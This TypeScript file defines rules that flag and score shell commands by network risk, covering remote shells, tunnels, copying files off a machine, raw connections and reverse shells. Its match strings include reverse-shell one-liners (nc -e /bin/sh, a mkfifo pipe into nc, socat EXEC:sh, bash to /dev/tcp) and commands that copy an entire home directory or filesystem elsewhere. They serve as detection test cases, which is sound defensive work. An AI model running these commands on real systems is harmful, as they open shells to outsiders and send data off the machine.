import { all, any, flag, isPipedInto, operand } from './conditions.ts';
import type { Rule } from './rule.ts';

const REMOTE_SHELLS =
  'ssh mosh rsh rlogin telnet autossh sshpass pssh clusterssh slogin dbclient plink dropbear tmate winrs evil-winrm psexec.py wmiexec.py smbexec.py';
const STORES = /^(rclone|restic|borg|duplicity|s3cmd|s4cmd|s5cmd|mc|rdiff-backup)$/;
const READS_STORE =
  /^(ls|lsd|lsl|lsf|list|info|snapshots|stats|check|size|about|version|tree|cat|diff|config|find|status|head|stat|du|snapshots|help|md5sum|hashsum|listremotes|key|alias)$/;

export const REMOTE: readonly Rule[] = [
  {
    id: 'remote-shell',
    programs: REMOTE_SHELLS,
    when: any(operand(/./), (c) => c.fed),
    dimension: 'network',
    points: 5,
    message: 'works on another machine',
    matches: ['ssh host uptime', 'mosh me@host', 'telnet e.com 80'],
    not_matches: ['ssh -V'],
  },
  {
    id: 'opens-tunnel',
    programs:
      'ssh autossh chisel ngrok cloudflared frpc devtunnel bore localtunnel lt stunnel gost rathole wg wg-quick openvpn tor tailscale zerotier-cli sshuttle socat',
    when: any(
      flag('-R', '-D', '-L', '-w', '-W'),
      (c) => !/^(ssh|autossh|socat)$/.test(c.program),
      all((c) => c.program === 'socat', operand(/listen/i)),
    ),
    dimension: 'network',
    points: 6,
    message: 'opens a tunnel between networks',
    matches: ['ssh -R 80:localhost:80 host', 'cloudflared tunnel --url localhost:8080'],
    not_matches: ['ssh host uptime'],
  },
  {
    id: 'copies-over-network',
    programs:
      'scp sftp ftp lftp ncftp tftp rcp rsync rclone smbclient sshfs curlftpfs s3cmd s4cmd s5cmd mc croc wormhole magic-wormhole ssh-copy-id syncthing unison ipfs rdiff-backup restic borg duplicity',
    when: ({ program, operands, flags }) =>
      !(STORES.test(program) && READS_STORE.test(operands[0]?.text ?? '')) &&
      (operands.find((o) => /^[^/\s]*[^/\s:]:([^:]|:[^:]|$)|^\w+:\/\//.test(o.text)) ??
        (program !== 'rsync' && (operands.length > 0 || flags.size > 0))),
    dimension: 'network',
    points: 4,
    message: 'copies files to or from another machine',
    matches: ['scp a host:b', 'rsync -a src/ me@host:dest', 'sftp host'],
    not_matches: ['rsync -a src/ dest/'],
  },
  {
    id: 'copies-all-out',
    programs: 'aws gsutil gcloud azcopy rclone s3cmd s4cmd s5cmd mc b2 scp rsync',
    when: ({ operands }) => {
      const from = operands.findIndex((o) =>
        /^(\.|\.\/|\.\.(\/.*)?|\/|\/(home|root|etc)\/?|~[^/]*\/?)$/.test(o.text),
      );
      return from >= 0 && operands.slice(from + 1).some((o) => /^\w[\w@.-]*:/.test(o.text)) && operands[from];
    },
    dimension: 'network',
    points: 6,
    message: 'copies everything that is here to another machine',
    matches: ['aws s3 sync . s3://other-bucket', 'scp -r ~ host:a', 'rclone copy / remote:a'],
    not_matches: ['aws s3 sync a s3://b', 'aws s3 sync s3://b .', 'rsync -a . ../a'],
  },
  {
    id: 'asks-store',
    programs: 'rclone restic borg duplicity s3cmd s4cmd s5cmd mc rdiff-backup',
    when: operand(/./),
    dimension: 'network',
    points: 3,
    message: 'works with a store of files on another machine',
    whatever: true,
    matches: ['rclone ls remote:', 'restic snapshots'],
    not_matches: ['rclone --version', 'rsync a b'],
  },
  {
    id: 'raw-connection',
    programs: 'nc ncat netcat socat cryptcat nc.openbsd nc.traditional pwncat rlwrap xinetd openssl',
    when: any(
      all((c) => c.program !== 'openssl', any(operand(/./), flag('-l', '--listen'))),
      all((c) => c.program === 'openssl', operand(/^s_(client|server|time)$/)),
    ),
    dimension: 'network',
    points: 5,
    message: 'opens a raw network connection',
    matches: ['nc e.com 80', 'nc -l 4444', 'openssl s_client -connect e.com:443'],
    not_matches: ['nc -h', 'openssl x509 -in a.pem'],
  },
  {
    id: 'shell-over-network',
    programs: 'nc ncat netcat socat cryptcat openssl telnet',
    when: any(
      flag('-e', '-c', '--exec', '--sh-exec', '--lua-exec'),
      operand(/(exec|system):/i),
      all(
        isPipedInto,
        (c) => c.pipe !== null && [...c.pipe.line.first].some(([p]) => /^(ba|da|z|k)?sh$/.test(p)),
      ),
    ),
    dimension: 'network',
    points: 9,
    message: 'connects a shell to the network',
    opaque: true,
    matches: [
      'nc -e /bin/sh e.com 4444',
      'mkfifo f; cat f | sh -i 2>&1 | nc e.com 99 > f',
      'socat TCP:e.com:1 EXEC:sh',
    ],
    not_matches: ['nc -z e.com 80', 'openssl version'],
  },
  {
    id: 'network-device-file',
    programs: '',
    when: (c) =>
      c.redirections.find((r) => /^\/dev\/(tcp|udp)\//.test(r.target?.text ?? '')) ??
      c.args.find((a) => /^\/dev\/(tcp|udp)\//.test(a.text)),
    dimension: 'network',
    points: 8,
    message: 'opens a network connection through the shell itself',
    matches: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/e.com/80'],
    not_matches: ['echo a > /dev/null', 'echo /etc/tcp/x'],
  },
];
